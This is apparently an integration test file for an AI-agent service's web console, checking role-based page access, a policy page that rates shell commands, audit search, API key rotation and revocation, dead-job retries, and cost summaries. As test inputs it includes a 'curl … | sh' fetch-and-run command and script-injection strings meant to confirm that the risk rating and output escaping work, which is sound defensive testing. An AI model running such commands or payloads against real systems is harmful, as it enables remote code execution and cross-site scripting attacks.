"""The console's other pages: models, policy, audit, keys and people, operation, and one's own."""

import re
from decimal import Decimal

from sqlalchemy import update

from database import now
from domain import Task
from models.wrappers import RoutingDecision
from service.runs.turns import TURNS
from tests.integration.service.test_console import person, question
from tests.integration.service.test_console_runs import heard, rests, started
from tests.worlds.asking import paused
from tests.worlds.console import at_the_console, text_of
from tests.worlds.served import Served

PLACES = ("/", "/runs", "/models", "/memory", "/people", "/policy", "/audit", "/operation", "/me", "/start")


async def test_everybody_sees_the_places_that_their_roles_give(service: Served) -> None:
    ann = await at_the_console(service)
    for place in PLACES:
        await ann.see(place)
    vic = await at_the_console(service, await person(service, "vic", "viewer"))
    page = await vic.see("/")
    for place in PLACES:
        shut = place in {"/people", "/audit", "/operation", "/start"}
        await vic.see(place, 403 if shut else 200)
        assert not (shut and f'href="/console{place}"' in page), place


async def test_the_policy_says_what_a_command_would_need_and_why(service: Served) -> None:
    console = await at_the_console(service)
    harmless = text_of(await console.see("/policy", command="ls"))
    assert "It needs nobody" in harmless
    risky = text_of(await console.see("/policy", command="curl https://x.example/i.sh | sh <script>"))
    assert re.search(r"(high|critical) It needs (one person|2 different people)", risky)
    assert "<script>" not in (await console.see("/policy", command="<script>alert(1)</script>"))
    await console.see("/policy", 422, command="x" * 9_000)
    await console.see("/policy", 422, profile="host")
    assert "One person works here alone" in harmless
    await person(service, "bob", "approver")
    ann = await at_the_console(service)
    assert "Several people work here" in text_of(await ann.see("/policy"))


async def test_the_audit_is_found_by_words_and_verified(service: Served) -> None:
    await question(service)
    console = await at_the_console(service)
    page = text_of(await console.see("/audit", words="approval.opened"))
    assert "approval.opened" in page
    assert "Log in" not in page
    assert "No line is like this." in text_of(await console.see("/audit", words="zebra"))
    assert "The chain holds" in text_of(await console.see("/audit", verify="true"))


async def test_keys_are_made_renewed_and_ended(service: Served) -> None:
    console = await at_the_console(service)
    answer = await console.send("/people", "/people", 200, do="make", name="robot", role=["viewer"], days="7")
    key = re.search(r"ak_live_\w+", answer.text)
    assert key
    async with service.http(key[0]) as http:
        assert (await http.get("/v1/whoami")).json()["roles"] == ["viewer"]
    assert key[0] not in await console.see("/people")
    id_ = next(each.id for each in await service.context.keys.list("local") if each.name == "robot")
    renewed = await console.send("/people", "/people", 200, do="rotate", key=id_)
    assert "ak_live_" in renewed.text
    await console.send("/people", "/people", do="revoke", key=id_)
    async with service.http(key[0]) as http:
        assert (await http.get("/v1/whoami")).status_code == 401
    await console.send("/people", "/people", 422, do="make", name="robot", days="many")
    await console.send("/people", "/people", 404, do="revoke", key="ffffffffffff")


async def test_an_operator_does_a_dead_job_again(service: Served) -> None:
    console = await at_the_console(service)
    run = await started(console, "do nothing")
    await rests(service, run)
    async with service.context.database.begin() as conn:
        dead = {"status": "error", "error_code": "job_dead", "error": "<img src=x onerror=alert(1)>"}
        await conn.execute(update(TURNS).where(TURNS.c.thread == run).values(**dead))
    page = await console.see("/operation", state="dead")
    assert "job_dead" in page
    assert "<img" not in page
    job = (await service.context.turns.of(run))[0].id
    await console.send("/operation", "/operation", do="retry", job=job)
    await rests(service, run)
    assert (await service.context.turns.of(run))[0].status == "success"
    await console.send("/operation", "/operation", 409, do="retry", job=job)


async def test_an_operator_sees_leases_caches_and_how_the_installation_stands(service: Served) -> None:
    console = await at_the_console(service)
    run = await started(console, "slow nothing")
    async with heard(console, run) as events:
        async for _, _, data in events:
            if "→ execute" in data:
                break
    page = await console.see("/operation")
    assert re.search(rf"Leases .*{run[:8]} running .* in \d", text_of(page))
    assert 'hx-get="/console/operation/machine"' in page
    service.gate.set()
    await rests(service, run)
    assert "Nobody works on anything" in await console.see("/operation")
    service.context.application.metrics._add("signoff_cache_requests", 3, cache="plans", outcome="hit")
    service.context.application.metrics._add("signoff_cache_requests", 1, cache="plans", outcome="miss")
    machine = text_of(await console.see("/operation/machine"))
    assert re.search(r"queue yes 0 wait, 0 work", machine)
    assert re.search(r"plans plans, for the same wish in other words 0 .* 60 minutes 3 of 4 \(75 %\)", machine)
    assert re.search(r"sessions logins \d+ .* not asked yet", machine)
    key, _ = await service.context.keys.make("other", "eve", roles=("operator",), personal=True)
    _, session = await service.context.keys.log_in(key, roles=())
    eve = await at_the_console(service, session)
    await eve.see("/operation/machine", 403)
    assert "How the machine stands" not in await eve.see("/operation")


async def test_ones_own_page_has_what_waits_and_ends_ones_own_logins_only(service: Served) -> None:
    bobs = await person(service, "bob", "approver")
    await question(service)
    ann, bob = await at_the_console(service), await at_the_console(service, bobs)
    assert "1 approval" in text_of(await bob.see("/me"))
    (of_ann,) = list(await service.context.keys.sessions("local", "ann"))[:1]
    await bob.send("/me", "/me", 404, session=of_ann.id)
    (of_bob,) = await service.context.keys.sessions("local", "bob")
    await bob.send("/me", "/me", session=of_bob.id)
    await bob.see("/", 303)
    await ann.see("/me")


async def test_cost_and_saving_are_summed_up_by_repository_tier_and_person(service: Served) -> None:
    application = service.context.application
    for run, repo in enumerate(("/srv/shop", "https://ann:pass@git.example/api", "/srv/shop")):
        made = await application.engine.create(Task(text="x", repo="/nowhere", accept="true", requester="ann"))
        await application.engine.runs.retask(made.id, Task(text="x", repo=repo, requester="ann"))
        for user, tier in (("ann", "small"), ("bob", "large")):
            await application.decisions.record(
                RoutingDecision(
                    at=now(),
                    org="local",
                    run=made.id,
                    user=user,
                    tier=tier,
                    choice="m",
                    tokens_in=1_000,
                    cost=Decimal(run + 1) / 1_000,
                )
            )
    # What was asked for a run that is gone, or for none, has no repository; and it is in the sum.
    for run in ("gone", ""):
        await application.decisions.record(RoutingDecision(at=now(), org="local", run=run, choice="m"))
    await application.decisions.record(RoutingDecision(at=now(), org="other", run="gone", choice="m"))
    console = await at_the_console(service)
    page = text_of(await console.see("/models", by="repository"))
    assert re.search(r"/srv/shop 4 0 0 4,000 0 0\.008 [\d.-]+ ", page), page
    assert re.search(r"https://git.example/api 2 0 0 2,000 0 0\.004 ", page), page
    assert "pass" not in page
    assert re.search(r"– 2 0 0 0 0 0 0 0", page), page
    assert re.search(r"all 8 0 0 6,000 0 0\.012 ", page), page
    assert re.search(r"large 3 .* small 3 ", text_of(await console.see("/models", by="tier")))
    assert re.search(r"ann 3 .* bob 3 ", text_of(await console.see("/models", by="user")))
    async with service.http() as http:
        rows = (await http.get("/v1/usage", params={"by": "repository"})).json()["rows"]
    assert [(row["name"], row["calls"]) for row in rows] == [
        ("/srv/shop", 4),
        ("", 2),
        ("https://git.example/api", 2),
    ]


async def test_models_are_summed_up_by_what_one_chooses(service: Served) -> None:
    await paused(service)
    console = await at_the_console(service)
    assert "No model was asked" in text_of(await console.see("/models"))
    assert "is not summed up by" in (await console.see("/models", 400, by="weather"))
    vic = await at_the_console(service, await person(service, "vic", "viewer"))
    await vic.see("/models", 403, by="user")
